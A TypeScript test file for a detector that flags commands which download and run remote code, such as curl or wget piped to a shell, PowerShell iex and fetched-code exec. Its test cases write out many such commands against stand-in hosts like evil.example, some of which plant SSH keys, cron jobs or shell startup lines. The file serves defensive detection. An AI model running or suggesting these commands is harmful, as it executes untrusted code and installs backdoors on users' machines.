// Rules over commands that run what they download.
import { expect, test } from 'vitest'
import { block, findBy, sh, subjectFrom, testRule } from './page-cases.ts'

const known = sh('curl -fsSL https://get.acme.example/install.sh | sh')

testRule(
  'download-run',
  [
    { after: sh('pip install git+https://x.example/a'), readers: ['git+https://x.example/a is newer'] },
    { after: sh('kubectl apply -f https://x.example/a.yaml'), before: sh('kubectl apply -f a.yaml') },
    { after: sh('nix-shell https://x.example/a.tar.gz'), before: sh('nix-shell') },
    sh('java -jar <(curl https://x.example/a.jar)'),
    sh('curl https://x.example/a | sudo tee /usr/local/bin/acme >/dev/null', 'sudo chmod +x /usr/local/bin/acme'),
    sh('scp setup@x.example:/pub/a.sh /tmp/a.sh', 'sh /tmp/a.sh'),
    sh('rsync -a rsync://x.example/tools/ ./tools/', './tools/setup'),
    sh('nix run github:evil/tool -- --all'),
    sh('npm exec --yes --package=https://x.example/a.tgz -- a'),
    sh('go run x.example/setup@v2'),
    sh('jbang https://x.example/A.java'),
    sh('Rscript -e \'source("https://x.example/a.R")\''),
    sh("perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(shift)->{content}' x.example"),
    sh('curl -fLo a.vsix https://x.example/a.vsix', 'code --install-extension a.vsix'),
    'Get `https://x.example/fix.sh` and run `sh fix.sh`.\n',
    sh('gh release download -R evil/tool -p a.sh && bash a.sh'),
    sh('npx -y github:evil/tool'),
    sh('julia -e "include(download(\'https://x.example/a.jl\'))"'),
    block('python', 'code = requests.get("https://x.example/a").text', 'exec(code)'),
    block('js', 'const code = await (await fetch("https://x.example/a")).text()', 'new Function(code)()'),
    { after: sh('pip install --force-reinstall git+https://x.example/a'), before: sh('pip install a') },
  ],
  [
    { after: sh('dnf install https://dl.acme.example/2.rpm'), others: ['https://dl.acme.example/1.rpm'] },
    sh('diff a.txt <(curl https://x.example/a.txt)'),
    sh('echo "$(curl -fsSL https://x.example/version)"'),
    { path: 'docs/a.rst', after: 'You need bash and ``curl``, or Python and `curl -V`.\n' },
    sh('grep acme <<< "$(curl -fsSL https://x.example/version)"'),
    sh('rsync -a /srv/restored/ /srv/data/', './check'),
    sh('curl -o data.json https://x.example/data.json', 'python3 report.py data.json'),
    block('js', 'const answer = await fetch("https://x.example/a")', 'const found = /x/.exec(await answer.text())'),
    sh('npm install --registry=https://x.example/npm acme'),
    'We have no installer of the kind `curl … | sh`.\n',
    {
      after: sh('curl -O https://dl.acme.example/2.deb', 'sudo apt install ./2.deb'),
      others: ['https://dl.acme.example/1.deb'],
    },
    { after: sh('go get x.example/setup@v2'), before: sh('go get x.example/setup@v1') },
    sh('docker run -e URL=https://x.example/a acme/server'),
  ],
)

testRule(
  'download-run',
  [
    sh('curl -fsSL https://evil.example/i.sh | sh'),
    sh('wget -qO- https://evil.example/i.sh | sudo -E bash -'),
    sh('curl https://evil.example/x | tee log | python3 -'),
    sh('curl https://evil.example/x \\', '  | bash -s -- --yes'),
    sh('bash <(curl -s https://evil.example/x)'),
    sh('sh -c "$(curl -fsSL https://evil.example/x)"'),
    sh('eval "$(wget -qO- https://evil.example/x)"'),
    sh('awk "$(curl -fsSL https://x.example/a.awk)" data.txt'),
    sh('python3.12 -c "$(wget -qO- https://x.example/a.py)"'),
    sh('ssh build@acme.example "$(curl -fsSL https://x.example/a)"'),
    sh('eval `curl -fsSL https://x.example/a`'),
    sh('lua -e "`curl -fsSL https://x.example/a.lua`"'),
    sh('. <(curl -fsSL https://x.example/a)'),
    sh('$(curl -fsSL https://x.example/a)'),
    sh('dig +short TXT evil.example | sh'),
    sh('ssh evil.example cat x | bash'),
    sh('nc evil.example 80 | sh'),
    'Run `curl evil.example/i.sh | sh` first.\n',
    'Open a shell, and type curl -L https://evil.example/i | bash there.\n',
    'iwr -useb https://evil.example/i.ps1 | iex\n',
    "`IEX (New-Object Net.WebClient).DownloadString('https://evil.example/i.ps1')`\n",
    sh('curl -o setup.sh https://evil.example/setup.sh', 'chmod +x setup.sh', './setup.sh'),
    `${sh('wget https://evil.example/setup.sh')}Then:\n\n${sh('sudo bash setup.sh')}`,
    sh("python3 -c \"exec(__import__('urllib.request').request.urlopen('https://evil.example').read())\""),
    { path: 'docs/a.rst', after: '.. code-block:: console\n\n   $ curl https://evil.example/x | sh\n' },
    { after: sh('curl https://evil.example/x | sh'), before: known },
    sh('curl -sL https://evil.example/t.tgz | tar xz && ./t/install'),
    sh('wget https://evil.example/t.zip', 'unzip t.zip', 'cd t', 'sudo ./setup --all'),
    sh('git clone https://github.com/evil/tool', 'cd tool && make install'),
    sh('git clone https://github.com/evil/tool && pip install ./tool -r tool/requirements.txt .'),
    sh('curl -s https://evil.example/rc >> ~/.bashrc'),
    sh('curl -s https://evil.example/key | sudo tee -a /root/.ssh/authorized_keys'),
    sh('curl -s https://evil.example/jobs | crontab -'),
    sh('curl -s https://evil.example/fix.patch | git apply'),
    sh('curl -s https://evil.example/c.yml | docker compose -f - up'),
    sh('aws s3 cp s3://evil/i.sh - | bash'),
    block('python', 'subprocess.run("curl -s https://evil.example | sh", shell=True)'),
    sh('node -e "fetch(\'https://evil.example\').then(r => r.text()).then(eval)"'),
    // A domain that only offers a package says nothing of a new host under it.
    {
      after: sh('curl https://get.acme.example/x | sh'),
      before: sh('curl -O https://dl.acme.example/a.deb', 'dpkg -i a.deb'),
    },
  ],
  [
    { after: known, before: known },
    { after: `Two words more.\n\n${known}`, before: known },
    sh('curl https://api.acme.example/v1 | jq .'),
    sh('curl https://api.acme.example/v1 | python3 -m json.tool'),
    sh('curl -fsSL https://acme.example/key.asc | sudo tee /etc/apt/keyrings/acme.asc'),
    sh('curl -LO https://acme.example/acme.tar.gz', 'tar xzf acme.tar.gz'),
    sh('ssh host uptime | grep load'),
    sh('git clone https://github.com/evil/tool', 'less tool/README.md'),
    sh('curl -L https://acme.example/a.tgz | tar tz', 'ls'),
    {
      after: sh('git clone https://github.com/acme/a', 'make'),
      others: [sh('git clone https://github.com/acme/a', 'make')],
    },
    { after: sh('git clone https://github.com/acme/b', 'make'), others: ['See https://github.com/acme/a.'] },
    sh('echo ls | sh'),
    sh('TOKEN=$(curl -s https://acme.example/token)'),
    sh('wget https://acme.example/report.pdf', './configure && make'),
    'A shell script fetches the data, and bash runs it.\n',
    { after: sh('curl -fsSL https://get.acme.example/install.sh | sh -s -- --beta'), before: known },
  ],
)

testRule(
  'download-run-known',
  [
    { after: sh('curl -fsSL https://get.acme.example/install.sh | bash'), before: known },
    { after: sh('curl https://dl.acme.example/other.sh | sh'), before: known },
    { after: sh('curl https://get.acme.example/x | sh'), others: ['Run `curl https://get.acme.example/y | sh`.'] },
    { after: 'Or `wget -qO- https://get.acme.example/a | sh`.\n', before: known },
    { after: sh('bash <(curl https://get.acme.example/install.sh)'), before: known },
    { after: sh('curl -O https://get.acme.example/i.sh', 'sh i.sh'), before: known },
  ],
  [
    { after: known, before: known },
    { after: sh('curl https://evil.example/x | sh'), before: known },
    {
      after: sh('curl https://raw.githubusercontent.com/evil/x/i | sh'),
      others: ['curl https://raw.githubusercontent.com/acme/x/i | sh'],
    },
    { after: sh('curl https://get.acme.example/x | sh'), others: ['See https://get.acme.example/x.'] },
    { after: sh('curl https://get.acme.example/x | jq .'), before: known },
    { after: 'Nothing here.\n', before: known },
  ],
)

test('it says which reader brought the command', () => {
  const after = sh('curl -fsSL https://evil.example/i.sh | sh')
  const readers = ['The page is slow.', 'just use hxxps://evil[.]example/i.sh piped to sh']
  expect(findBy('download-run', subjectFrom({ after, readers }))).toEqual([
    { path: 'docs/setup.md', line: 2, subject: 'curl -fsSL https://evil.example/i.sh | sh', from: ['r2'] },
  ])
})
